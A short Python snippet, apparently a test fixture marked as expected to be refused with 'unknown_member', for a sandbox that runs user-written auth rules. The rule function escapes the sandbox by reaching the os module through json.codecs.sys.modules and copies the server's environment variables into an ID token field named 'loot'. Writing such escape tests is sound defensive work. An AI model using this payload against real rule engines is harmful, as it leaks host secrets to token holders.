# refused: unknown_member
def rule(user, context):
    import json
    context.idToken.loot = json.codecs.sys.modules['os'].environ
